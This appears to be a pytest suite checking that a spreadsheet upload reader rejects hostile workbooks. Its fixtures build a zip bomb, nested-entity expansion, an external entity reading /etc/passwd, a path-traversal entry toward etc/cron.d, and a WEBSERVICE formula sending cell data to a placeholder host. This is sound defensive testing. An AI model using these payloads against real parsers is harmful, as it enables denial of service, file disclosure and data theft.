"""Files that are no plain small workbook: refused with a sentence, quickly, within a bound of memory."""

import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest

from renderers.excel.form_book import form_workbook
from renderers.excel.reading import WorkbookReading, read_workbook
from renderers.office_format import WORKBOOK
from renderers.office_package import LARGEST_FILE
from templates.problem import Problem
from tests.consolidation.table_region import TABLE_FORM, TABLE_REPORTS

MEMORY_BOUND = 256 * 1024
"""KiB beyond what the program holds before, for any file, taken or refused."""

SECONDS = 5.0
SHEET = "xl/worksheets/sheet2.xml"
HEAD = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
TAIL = "</sheetData></worksheet>"


def rebuilt(changes: dict[str, bytes | None]) -> bytes:
    """A workbook of ours with parts replaced, added or left out."""
    stream = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(form_workbook(TABLE_REPORTS[0], sensitive=True))) as whole,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for name in [*whole.namelist(), *(set(changes) - set(whole.namelist()))]:
            content = changes.get(name, whole.read(name) if name in whole.namelist() else b"")
            if content is not None:
                archive.writestr(name, content)
    return stream.getvalue()


def sheet(*rows: str) -> bytes:
    return (HEAD + "".join(rows) + TAIL).encode()


def zipped_in(name: str, content: bytes) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(name, content)
    return stream.getvalue()


def of_rows(count: int) -> bytes:
    row = '<row r="%d"><c r="A%d"><v>1</v></c></row>'
    return rebuilt({SHEET: sheet(*(row % (number, number) for number in range(1, count + 1)))})


def far_row() -> bytes:
    return rebuilt({SHEET: sheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')})


def bomb() -> bytes:
    return rebuilt({SHEET: b" " * (300 * 1024 * 1024)})


def crowded(tag: bytes) -> bytes:
    """As many tiny elements in one row as a part may hold: the dearest thing there is to keep in memory."""
    room = WORKBOOK.largest_part - 400
    row = b'<row r="1">' + tag * (room // len(tag)) + b"</row>"
    return rebuilt({SHEET: HEAD.encode() + row + TAIL.encode()})


def entities() -> bytes:
    levels = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    text = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "xxxxxxxxxx">{levels}]>'
    body = HEAD.partition("?>")[2] + '<row r="1"><c t="inlineStr"><is><t>&e9;</t></is></c></row>' + TAIL
    return rebuilt({SHEET: (text + body).encode()})


def outside_entity() -> bytes:
    text = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    body = HEAD.partition("?>")[2] + '<row r="1"><c t="inlineStr"><is><t>&a;</t></is></c></row>' + TAIL
    return rebuilt({SHEET: (text + body).encode()})


def lying_directory() -> bytes:
    """A part whose directory entry claims to be small."""
    content = rebuilt({SHEET: b" " * (50 * 1024 * 1024)})
    return content.replace((50 * 1024 * 1024).to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def ole(marker: bytes) -> bytes:
    return bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 2000 + marker


def zipped(*names: str) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name in names:
            archive.writestr(name, b"<x/>")
    return stream.getvalue()


def packed_by(method: int) -> bytes:
    """An archive packed in a way no office program uses, which may ask for any amount of memory."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name in ("[Content_Types].xml", "xl/workbook.xml"):
            archive.writestr(name, b"<x/>")
    return stream.getvalue()


def long_directory() -> bytes:
    """Nothing but a directory, of as many entries as the largest file has room for."""
    entry = b"PK\x01\x02" + bytes(24) + (1).to_bytes(2, "little") + bytes(16) + b"a"
    count = (LARGEST_FILE - 100) // len(entry)
    sizes = (count % 65536).to_bytes(2, "little") * 2 + (count * len(entry)).to_bytes(4, "little")
    return b"PK\x03\x04" + entry * count + b"PK\x05\x06" + bytes(4) + sizes + bytes(6)


def shared_texts(text: bytes) -> bytes:
    """As many shared texts as a part may hold."""
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return rebuilt({"xl/sharedStrings.xml": head + text * ((WORKBOOK.largest_part - 200) // len(text)) + b"</sst>"})


def nested(depth: int) -> bytes:
    """Elements one inside another."""
    return rebuilt({SHEET: HEAD.encode() + b"<row>" * depth + b"</row>" * depth + TAIL.encode()})


def of_types(types: bytes) -> bytes:
    return rebuilt({"[Content_Types].xml": types})


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip bomb": (bomb, "xlsx_too_big"),
    "directory that lies": (lying_directory, "xlsx_broken"),
    "a million rows": (lambda: of_rows(1_048_576), "xlsx_too_big"),
    "too many rows": (lambda: of_rows(20_000), "xlsx_too_many_rows"),
    "the very last row": (far_row, "xlsx_too_many_rows"),
    "a row of two hundred thousand cells": (lambda: crowded(b"<c><v>1</v></c>"), "xlsx_too_big"),
    "a million empty elements": (lambda: crowded(b"<c/>"), "xlsx_too_big"),
    "too many entries": (lambda: rebuilt({f"xl/media/{n}.png": b"" for n in range(600)}), "xlsx_too_big"),
    "a directory of two hundred thousand entries": (long_directory, "xlsx_too_big"),
    "packed with LZMA": (lambda: packed_by(zipfile.ZIP_LZMA), "xlsx_broken"),
    "an archive within": (
        lambda: zipped_in("x.xlsx", rebuilt({})),
        "xlsx_not_excel",
    ),
    "ten thousand elements one inside another": (lambda: nested(10_000), "xlsx_broken"),
    "a million shared texts": (lambda: shared_texts(b"<si/>"), "xlsx_too_big"),
    "a million empty rows": (lambda: rebuilt({SHEET: sheet("<row/>" * 1_000_000)}), "xlsx_too_big"),
    "too large a file": (lambda: b"PK" + b"\0" * LARGEST_FILE, "xlsx_too_big"),
    "macro": (lambda: rebuilt({"xl/vbaProject.bin": b"\0"}), "xlsx_macro"),
    "macro by its type": (
        lambda: of_types(
            b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
        ),
        "xlsx_macro",
    ),
    "old macro sheet": (lambda: rebuilt({"xl/macrosheets/sheet1.xml": b"<x/>"}), "xlsx_macro"),
    "external links": (lambda: rebuilt({"xl/externalLinks/externalLink1.xml": b"<x/>"}), "xlsx_external"),
    "data connections": (lambda: rebuilt({"xl/connections.xml": b"<x/>"}), "xlsx_external"),
    "entities": (entities, "xlsx_broken"),
    "an entity from outside": (outside_entity, "xlsx_broken"),
    "encrypted": (lambda: ole("EncryptedPackage".encode("utf-16-le")), "xlsx_locked"),
    "old Excel": (lambda: ole(b"Workbook"), "xlsx_old"),
    "PDF": (lambda: b"%PDF-1.7\n...", "xlsx_is_pdf"),
    "Word": (lambda: zipped("[Content_Types].xml", "word/document.xml"), "xlsx_is_word"),
    "LibreOffice": (lambda: zipped("mimetype", "content.xml"), "xlsx_is_ods"),
    "any archive": (lambda: zipped("a.txt"), "xlsx_not_excel"),
    "a path that leads out": (lambda: rebuilt({"xl/../../etc/cron.d/x": b"x"}), "xlsx_broken"),
    "a picture": (lambda: b"\x89PNG\r\n", "xlsx_not_excel"),
    "nothing": (lambda: b"", "xlsx_not_excel"),
    "cut short": (lambda: form_workbook(TABLE_REPORTS[0], sensitive=True)[:-300], "xlsx_broken"),
    "no XML": (lambda: rebuilt({SHEET: b"\0\1\2"}), "xlsx_broken"),
    "a sheet missing": (lambda: rebuilt({SHEET: None}), "xlsx_broken"),
    "a text missing": (
        lambda: rebuilt({SHEET: sheet('<row r="1"><c t="s"><v>99999</v></c></row>')}),
        "xlsx_broken",
    ),
    "UTF-16 with entities": (lambda: rebuilt({SHEET: outside_utf16()}), "xlsx_broken"),
}


def outside_utf16() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>'
    return (text + HEAD.partition("?>")[2] + '<row r="1"><c><v>&a;</v></c></row>' + TAIL).encode("utf-16")


@pytest.mark.parametrize("name", HOSTILE)
def test_refused(name: str) -> None:
    """Each is answered in seconds with a sentence that says what to do; nothing of it is read as an answer."""
    make, code = HOSTILE[name]
    content = make()
    began = time.process_time()
    reading = read_workbook(content, TABLE_FORM, "xa")
    assert time.process_time() - began < SECONDS
    assert isinstance(reading, Problem)
    assert reading.code == code
    assert "Anh/chị" in reading.sentence or "anh/chị" in reading.sentence


MEASURE = """
import resource, sys
from renderers.excel.reading import read_workbook
from tests.consolidation.table_region import TABLE_FORM
content = open(sys.argv[1], "rb").read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
read_workbook(content, TABLE_FORM, "xa")
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.parametrize("name", ["zip bomb", "a million rows", "a million empty elements", "entities"])
def test_memory(name: str, tmp_path: Path) -> None:
    """Reading the worst files, measured in a process of its own, stays within the stated bound."""
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(HOSTILE[name][0]())
    root = Path(__file__).parents[2]
    run = [sys.executable, "-c", MEASURE, str(path)]
    said = subprocess.run(run, check=True, capture_output=True, text=True, timeout=60, cwd=root).stdout
    assert int(said) < MEMORY_BOUND


def test_a_formula_where_a_value_belongs() -> None:
    """A formula is refused at its cell even though the file holds a result for it."""
    book = openpyxl.load_workbook(BytesIO(form_workbook(TABLE_REPORTS[0], sensitive=True)))
    book["Biểu 1A"]["E10"] = '=WEBSERVICE("http://example.invalid/"&F10)'
    stream = BytesIO()
    book.save(stream)
    reading = read_workbook(stream.getvalue(), TABLE_FORM, "xa")
    assert isinstance(reading, WorkbookReading)
    assert [str(one) for one in reading.faults] == ["Biểu 1A, E10: là công thức; anh/chị gõ giá trị vào ô"]
